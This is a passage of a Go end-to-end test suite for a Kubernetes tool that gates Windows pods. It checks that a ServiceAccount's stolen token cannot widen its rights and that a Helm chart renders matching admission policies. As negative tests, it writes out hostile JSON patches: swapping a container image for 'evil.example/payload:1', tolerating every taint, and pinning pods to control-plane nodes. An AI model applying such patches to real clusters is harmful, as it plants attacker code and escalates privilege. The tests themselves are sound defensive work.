	// pod's images, add tolerations, and while it is gated add node affinity. The policy lets through
	// only the leader's update of a pod behind wincompat's gate (webhook.Ungate, as the leader writes it)
	// and wincompat ungate's release; anything else is refused.
	t.Run("gated pods", func(t *testing.T) {
		const ns = "gated-writes"
		e2eutil.SetUpNamespace(ctx, t, admin, ns, nil, nil)
		gatedPodWith := func(name string, edit func(*corev1.Pod), gates ...string) *corev1.Pod {
			p := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name, Labels: map[string]string{"app": name}},
				Spec: corev1.PodSpec{OS: &corev1.PodOS{Name: corev1.Windows}, NodeSelector: map[string]string{corev1.LabelOSStable: "windows"},
					Containers: []corev1.Container{{Name: "c", Image: "mcr.microsoft.com/windows/servercore:ltsc2019"}}}}
			if len(gates) == 0 {
				gates = []string{policy.SchedulingGate}
			}
			for _, g := range gates {
				p.Spec.SchedulingGates = append(p.Spec.SchedulingGates, corev1.PodSchedulingGate{Name: g})
				if g == policy.SchedulingGate {
					p.Labels[policy.LabelGated] = "true"
				}
			}
			if edit != nil {
				edit(p)
			}
			e2eutil.Create(ctx, t, admin, p)
			return p
		}
		gatedPod := func(name string, gates ...string) *corev1.Pod { return gatedPodWith(name, nil, gates...) }
		// The leader reads the pod (get), decides with webhook.Ungate and writes the patch tested against
		// the resourceVersion it read.
		leaderWrites := func(p *corev1.Pod, overdue string) error {
			u := &unstructured.Unstructured{}
			u.SetGroupVersionKind(corev1.SchemeGroupVersion.WithKind("Pod"))
			if err := sa.Get(ctx, client.ObjectKeyFromObject(p), u); err != nil {
				return err
			}
			raw, err := u.MarshalJSON()
			if err != nil {
				return err
			}
			facts := policy.Facts{Namespace: policy.Namespace{Name: ns, Labels: map[string]string{policy.LabelEnabled: "true"}}, Version: "v0.0.0-e2e"}
			res, err := webhook.Ungate(&pol, raw, facts, overdue)
			if err != nil {
				return err
			}
			if len(res.Patch) == 0 {
				return fmt.Errorf("webhook.Ungate changed nothing: %+v", res.Decision)
			}
			ops := append(patch.Patch{{Op: "test", Path: "/metadata/resourceVersion", Value: u.GetResourceVersion()}}, res.Patch...)
			data, err := ops.MarshalJSON()
			if err != nil {
				return err
			}
			t.Logf("the leader's update of %s: %s", p.Name, data)
			return sa.Patch(ctx, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: p.Name}}, client.RawPatch(types.JSONPatchType, data))
		}
		stored := func(p *corev1.Pod) *corev1.Pod {
			var got corev1.Pod
			if err := admin.Get(ctx, client.ObjectKeyFromObject(p), &got); err != nil {
				t.Fatal(err)
			}
			return &got
		}

		// Allowed: the leader's decision, with the registry's answer or past the bound, on a pod with
		// required node affinity of its own and on one with another gate too (which stays).
		decided := gatedPod("decided")
		if err := leaderWrites(decided, ""); err != nil {
			t.Errorf("the leader's update of a gated pod: %v", err)
		} else if p := stored(decided); policy.Gated(p) || p.Spec.NodeSelector[corev1.LabelWindowsBuild] == "" && p.Spec.Affinity == nil {
			t.Errorf("the leader's update left %q gated or unpinned: %+v", p.Name, p.Spec)
		}
		withAffinity := gatedPodWith("own-affinity", func(p *corev1.Pod) {
			p.Spec.Affinity = &corev1.Affinity{NodeAffinity: &corev1.NodeAffinity{RequiredDuringSchedulingIgnoredDuringExecution: &corev1.NodeSelector{
				NodeSelectorTerms: []corev1.NodeSelectorTerm{{MatchExpressions: []corev1.NodeSelectorRequirement{{Key: "team", Operator: corev1.NodeSelectorOpIn, Values: []string{"a"}}}}}}}}
		})
		if err := leaderWrites(withAffinity, "the registry did not answer within 3m"); err != nil {
			t.Errorf("the leader's update past the bound of a pod with node affinity of its own: %v", err)
		}
		twice := gatedPod("gated-twice", "example.com/capacity", policy.SchedulingGate)
		if err := leaderWrites(twice, ""); err != nil {
			t.Errorf("the leader's update of a pod with another gate too: %v", err)
		} else if p := stored(twice); len(p.Spec.SchedulingGates) != 1 || p.Spec.SchedulingGates[0].Name != "example.com/capacity" {
			t.Errorf("another gate did not stay: %+v", p.Spec.SchedulingGates)
		}
		// Allowed: wincompat ungate's release (the leader's, for a pod out of scope, is the same write).
		released := gatedPod("released")
		if res, err := ungate.Run(ctx, sa, ungate.Options{Namespace: ns, Settle: time.Millisecond}); err != nil || res.Released != 1 {
			t.Errorf("wincompat ungate as the ServiceAccount: released %d, %v; want 1", res.Released, err)
		} else if policy.Gated(stored(released)) {
			t.Error("wincompat ungate left the pod gated")
		}

		// Refused: every other update a patch could make.
		const gateMsg = "may only update a pod that carries its scheduling gate"
		jsonPatch := func(p *corev1.Pod, ops ...string) error {
			return sa.Patch(ctx, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: p.Name}},
				client.RawPatch(types.JSONPatchType, []byte("["+strings.Join(ops, ",")+"]")))
		}
		const ungateOps = `{"op":"remove","path":"/spec/schedulingGates"},{"op":"remove","path":"/metadata/labels/wincompat.io~1gated"}`
		for _, tc := range []struct {
			name string
			pod  *corev1.Pod
			ops  []string
		}{
			{"a pod without wincompat's gate", stored(decided), []string{`{"op":"add","path":"/metadata/annotations/wincompat.io~1build","value":"10.0.17763"}`}},
			{"keeping the gate", gatedPod("kept"), []string{`{"op":"add","path":"/metadata/annotations","value":{"wincompat.io/build":"10.0.17763"}}`}},
			{"another's gate removed too", gatedPod("both", "example.com/capacity", policy.SchedulingGate), []string{ungateOps}},
			{"the image", gatedPod("image"), []string{ungateOps, `{"op":"replace","path":"/spec/containers/0/image","value":"evil.example/payload:1"}`}},
			{"a label not wincompat's", gatedPod("label"), []string{ungateOps, `{"op":"replace","path":"/metadata/labels/app","value":"other"}`}},
			{"an annotation not wincompat's", gatedPod("annotation"), []string{ungateOps, `{"op":"add","path":"/metadata/annotations","value":{"example.com/x":"y"}}`}},
			{"an owner reference", gatedPod("owner"), []string{ungateOps, `{"op":"add","path":"/metadata/ownerReferences","value":[{"apiVersion":"v1","kind":"ConfigMap","name":"x","uid":"0000-x"}]}`}},
			{"a finalizer", gatedPod("finalizer"), []string{ungateOps, `{"op":"add","path":"/metadata/finalizers","value":["example.com/hold"]}`}},
			{"a nodeSelector key not a build pin's", gatedPod("selector"), []string{ungateOps, `{"op":"add","path":"/spec/nodeSelector/node-role.kubernetes.io~1control-plane","value":""}`}},
			{"a toleration of every taint", gatedPod("tolerate-all"), []string{ungateOps, `{"op":"add","path":"/spec/tolerations/-","value":{"operator":"Exists"}}`}},
			{"a toleration of another taint", gatedPod("tolerate-other"), []string{ungateOps, `{"op":"add","path":"/spec/tolerations/-","value":{"key":"node-role.kubernetes.io/control-plane","operator":"Equal","effect":"NoSchedule"}}`}},
			{"node affinity of another label", gatedPod("affinity"), []string{ungateOps, `{"op":"add","path":"/spec/affinity","value":{"nodeAffinity":{"requiredDuringSchedulingIgnoredDuringExecution":{"nodeSelectorTerms":[{"matchExpressions":[{"key":"kubernetes.io/hostname","operator":"In","values":["n"]}]}]}}}}`}},
			{"preferred node affinity", gatedPod("preferred"), []string{ungateOps, `{"op":"add","path":"/spec/affinity","value":{"nodeAffinity":{"preferredDuringSchedulingIgnoredDuringExecution":[{"weight":1,"preference":{"matchExpressions":[{"key":"kubernetes.io/hostname","operator":"In","values":["n"]}]}}]}}}`}},
			{"the deadline", gatedPod("deadline"), []string{ungateOps, `{"op":"add","path":"/spec/activeDeadlineSeconds","value":1}`}},
		} {
			checkRefused(t, "patching "+tc.name, jsonPatch(tc.pod, tc.ops...), policyRefuses(gateMsg))
		}
		checkRefused(t, "patching a gated pod's status", sa.Status().Patch(ctx, gatedPod("status"), client.RawPatch(types.JSONPatchType, []byte(`[{"op":"add","path":"/status/message","value":"x"}]`))),
			rbacRefuses(`patch resource "pods/status"`))
	})

	// What a stolen token reads (SECURITY.md, "Least privilege"): the watcher's pods and Events in every
	// namespace, which RBAC cannot narrow to the opted-in ones, and nothing of workloads, Secrets or
	// ConfigMaps outside its own names.
	t.Run("what it reads", func(t *testing.T) {
		const elsewhere = "some-team"
		e2eutil.SetUpNamespace(ctx, t, admin, elsewhere, nil, nil)
		for what, list := range map[string]client.ObjectList{"pods": &corev1.PodList{}, "events": &corev1.EventList{}} {
			if err := sa.List(ctx, list); err != nil {
				t.Errorf("listing %s in every namespace, which the misplaced watcher needs: %v", what, err)
			}
		}
		for _, tc := range []struct {
			what   string
			list   client.ObjectList
			refuse string
		}{
			{"Secrets", &corev1.SecretList{}, `list resource "secrets"`},
			{"ConfigMaps", &corev1.ConfigMapList{}, `list resource "configmaps"`},
			{"Deployments", &appsv1.DeploymentList{}, `list resource "deployments"`},
			{"pod templates", &corev1.PodTemplateList{}, `list resource "podtemplates"`},
		} {
			checkRefused(t, "listing "+tc.what, sa.List(ctx, tc.list, client.InNamespace(elsewhere)), rbacRefuses(tc.refuse))
		}
		checkRefused(t, "reading a pod's log", sa.SubResource("log").Get(ctx, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: elsewhere, Name: "p"}}, &corev1.Pod{}),
			rbacRefuses(`get resource "pods/log"`))
	})

	// The chart's policies act where their bindings select, with the chart's params, and the ServiceAccount
	// changes neither (the refusals above): a Windows pod in an opted-in namespace gets the policies'
	// rewrite, the image it asked for and nothing else.
	t.Run("the chart's admission policies act with the chart's params", func(t *testing.T) {
		const opted = "opted-in"
		e2eutil.SetUpNamespace(ctx, t, admin, opted, map[string]string{policy.LabelEnabled: "true"}, nil)
		pod := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: opted, Name: "p"}, Spec: corev1.PodSpec{
			OS:         &corev1.PodOS{Name: corev1.Windows},
			Containers: []corev1.Container{{Name: "c", Image: "registry.k8s.io/pause:3.10"}}}}
		e2eutil.WaitUntil(t, 30*time.Second, "the chart's admission policies to act on a Windows pod in an opted-in namespace", func() bool {
			p := pod.DeepCopy()
			if err := admin.Create(ctx, p, client.DryRunAll); err != nil {
				t.Fatalf("a Windows pod (dry run): %v", err)
			}
			return p.Annotations[policy.AnnotationAdmissionPolicy] != "" && p.Spec.NodeSelector[corev1.LabelOSStable] == "windows"
		})
		p := pod.DeepCopy()
		if err := admin.Create(ctx, p, client.DryRunAll); err != nil {
			t.Fatal(err)
		}
		if img := p.Spec.Containers[0].Image; img != "registry.k8s.io/pause:3.10" {
			t.Errorf("the pod's image became %s", img)
		}
	})

	// Anyone else is not matched: an administrator still writes what the ServiceAccount may not.
	if err := admin.Create(ctx, rogue(), client.DryRunAll); err != nil {
		t.Errorf("an administrator's RuntimeClass (dry run) was refused: %v", err)
	}
}

// TestHelmChartAdmissionPolicyBindings: issue 24, finding 8, and issue 40, finding 11. With engine
// hybrid the chart, not wincompat, installs the ten policies, their bindings and the params they read:
// the policies are wincompat's (admissionpolicy.Policies, the same for every policy), the bindings select
// what wincompat's own rendering selects (names, policy, namespaces, from the same policy values) plus
// the policy's resource rules, so that the scope holds whatever the policies say, and the params are
// what admissionpolicy.Params makes of the same policy, for the defaults and for values that set every
// knob. wincompat's ClusterRole names none of them. Rendering only; TestStolenTokenWidensNothing applies
// them.
func TestHelmChartAdmissionPolicyBindings(t *testing.T) {
	const paramsName = "wincompat-admission-policy-params"
	for _, tc := range []struct{ name, values string }{
		{"default policy", "engine: hybrid\n"},
		{"excluded namespaces and warn mode", "engine: hybrid\npolicy: {excludedNamespaces: [monitoring, wincompat-system], mode: warn}\n"},
		{"no excluded namespaces", "engine: hybrid\npolicy: {excludedNamespaces: []}\n"},
		{"every knob set", `engine: hybrid
image: {tag: v9.8.7}
policy:
  inferOSFromNodeSelector: false
  podSecurityRestricted: false
  nonRootUserName: 'CORP\svc-app'
  userForRunAsNonRoot: true
  memoryLimits: {fromRequests: true, default: 1536Mi}
  injectorOptOuts: [datadog, istio]
  windowsNodeTaints: [{key: sku, value: win, effect: NoExecute}, {key: node.kubernetes.io/os, effect: NoSchedule}, {key: example.com/gpu, value: "", effect: PreferNoSchedule}]
`},
		{"no taints user or injectors", "engine: hybrid\npolicy: {windowsNodeTaints: [], nonRootUserName: '', injectorOptOuts: [], memoryLimits: {default: 2Gi}}\n"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			objs := e2eutil.RenderChart(t, e2eutil.ValuesFile(t, tc.values))
			chartBindings := map[string]admissionregistrationv1.MutatingAdmissionPolicyBinding{}
			chartPolicies := map[string]admissionregistrationv1.MutatingAdmissionPolicy{}
			var pol *policy.Policy
			var params map[string]string
			for _, obj := range objs {
				js, _ := obj.MarshalJSON()
				switch obj.GetKind() {
				case "Deployment":
					if args := e2eutil.DeploymentOf(t, obj).Spec.Template.Spec.Containers[0].Args; slices.Contains(args, "--admission-policy-bindings-installed") {
						t.Errorf("serve runs with the deprecated --admission-policy-bindings-installed: %q", args)
					}
				case "MutatingAdmissionPolicy":
					var p admissionregistrationv1.MutatingAdmissionPolicy
					if err := json.Unmarshal(js, &p); err != nil {
						t.Fatal(err)
					}
					chartPolicies[p.Name] = p
				case "MutatingAdmissionPolicyBinding":
					var b admissionregistrationv1.MutatingAdmissionPolicyBinding
					if err := json.Unmarshal(js, &b); err != nil {
						t.Fatal(err)
					}
					chartBindings[b.Name] = b
				case "ConfigMap":
					switch obj.GetName() {
					case "wincompat-policy":
						pol = e2eutil.ChartPolicy(t, obj)
					case paramsName:
						var cm corev1.ConfigMap
						if err := json.Unmarshal(js, &cm); err != nil {
							t.Fatal(err)
						}
						params = cm.Data
					}
				}
			}
			if pol == nil || params == nil {
				t.Fatalf("the chart renders no policy ConfigMap (%v) or no params (%v)", pol != nil, params != nil)
			}
			if !slices.Contains(pol.ExcludedNamespaces, e2eutil.OwnNamespace) { // as serve adds it
				pol.ExcludedNamespaces = append(pol.ExcludedNamespaces, e2eutil.OwnNamespace)
			}
			// The version is the image's, not the policy's.
			r := admissionpolicy.Render(pol, admissionpolicy.Options{Version: params["version"], ExcludedNamespaces: []string{e2eutil.OwnNamespace},
				ParamsName: paramsName, ParamsNamespace: e2eutil.OwnNamespace})
			if want := admissionpolicy.Params(pol, admissionpolicy.Options{Version: params["version"]}); !maps.Equal(params, want) {
				t.Errorf("the chart's params differ from what wincompat renders for the same policy:\n chart %v\n   Go  %v", params, want)
			}
			if len(chartBindings) != len(r.Bindings) || len(chartPolicies) != len(r.Policies) {
				t.Errorf("the chart renders %d policies and %d bindings, wincompat %d and %d", len(chartPolicies), len(chartBindings), len(r.Policies), len(r.Bindings))
			}
			for _, want := range r.Policies {
				got, ok := chartPolicies[want.Name]
				if g, w := mustJSON(t, got.Spec), mustJSON(t, want.Spec); !ok || g != w {
					t.Errorf("the chart's policy %s (rendered: %v) is not wincompat's", want.Name, ok)
				}
			}
			// wincompat's own roles name no admission policy or binding: it writes and reads none.
			for _, obj := range objs {
				if obj.GetKind() != "ClusterRole" && obj.GetKind() != "Role" {
					continue
				}
				rules, err := e2eutil.RoleRules(obj)
				if err != nil {
					t.Fatal(err)
				}
				for _, rule := range rules {
					if slices.Contains(rule.Resources, "mutatingadmissionpolicies") || slices.Contains(rule.Resources, "mutatingadmissionpolicybindings") ||
						(slices.Contains(rule.Resources, "configmaps") && slices.Contains(rule.ResourceNames, paramsName)) {
						t.Errorf("%s %s grants %v on %v %v", obj.GetKind(), obj.GetName(), rule.Verbs, rule.Resources, rule.ResourceNames)
					}
				}
			}
			for i, want := range r.Bindings {
				got, ok := chartBindings[want.Name]
				if !ok {
					t.Errorf("the chart renders no binding %s", want.Name)
					continue
				}
				if got.Spec.PolicyName != want.Spec.PolicyName || got.Spec.MatchResources == nil || mustJSON(t, got.Spec.ParamRef) != mustJSON(t, want.Spec.ParamRef) {
					t.Errorf("%s: %+v; want the policy and params of %+v", want.Name, got.Spec, want.Spec)
					continue
				}
				if g, w := selectorString(got.Spec.MatchResources.NamespaceSelector), selectorString(want.Spec.MatchResources.NamespaceSelector); g != w {
					t.Errorf("%s selects namespaces %s; wincompat renders %s", want.Name, g, w)
				}
				g, _ := json.Marshal(got.Spec.MatchResources.ResourceRules)
				w, _ := json.Marshal(r.Policies[i].Spec.MatchConstraints.ResourceRules)
				if string(g) != string(w) {
					t.Errorf("%s selects resources %s; the policy wincompat renders matches %s", want.Name, g, w)
				}
			}
		})
	}
	// Values the Go policy loader reads otherwise, or refuses, fail the chart rather than reach the params.
	for values, says := range map[string]string{
		"policy: {memoryLimits: {default: 0.5Gi}}":                                   "policy.memoryLimits.default 0.5Gi: write the quantity as the API server writes it",
		"policy: {memoryLimits: {default: 1024Mi}}":                                  "policy.memoryLimits.default 1024Mi",
		"policy: {nonRootUserName: ContainerAdministrator}":                          "an administrator account",
		`policy: {nonRootUserName: 'a\b\c'}`:                                         "not a Windows user name",
		"policy: {nonRootUserName: 1234}":                                            "write the user name as a quoted string",
		"policy: {nonRootUserName: '', userForRunAsNonRoot: true}":                   "set nonRootUserName",
		"policy: {windowsNodeTaints: [{key: 'a:b', effect: NoSchedule}]}":            "at '/policy/windowsNodeTaints/0/key'",
		"policy: {windowsNodeTaints: [{key: os, value: 'a,b', effect: NoSchedule}]}": "at '/policy/windowsNodeTaints/0/value'",
	} {
		_, stderr, err := e2eutil.RunHelm(t, e2eutil.TemplateArgs(t, e2eutil.ValuesFile(t, "engine: hybrid\n"+values+"\n"))...)
		if err == nil || !strings.Contains(stderr, says) {
			t.Errorf("values %s: helm template %v, %s; want it to fail saying %q", values, err, stderr, says)
		}
	}
	for _, obj := range e2eutil.RenderChart(t, e2eutil.ValuesFile(t, "engine: webhook\n")) {
		if k := obj.GetKind(); k == "MutatingAdmissionPolicyBinding" || k == "MutatingAdmissionPolicy" || obj.GetName() == paramsName {
			t.Errorf("engine webhook renders %s %s", k, obj.GetName())
		}
	}
}

// mustJSON is v as JSON, for comparing API objects field by field.
func mustJSON(t *testing.T, v any) string {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// selectorString is a label selector with each requirement's values as a sorted set.
func selectorString(s *metav1.LabelSelector) string {
	if s == nil {
		return "<nil>"
	}
	var out []string
	for k, v := range s.MatchLabels {
		out = append(out, k+"="+v)
	}
	for _, e := range s.MatchExpressions {
		values := slices.Clone(e.Values)
		slices.Sort(values)
		out = append(out, fmt.Sprintf("%s %s %v", e.Key, e.Operator, slices.Compact(values)))
	}
	return strings.Join(out, ", ")
}
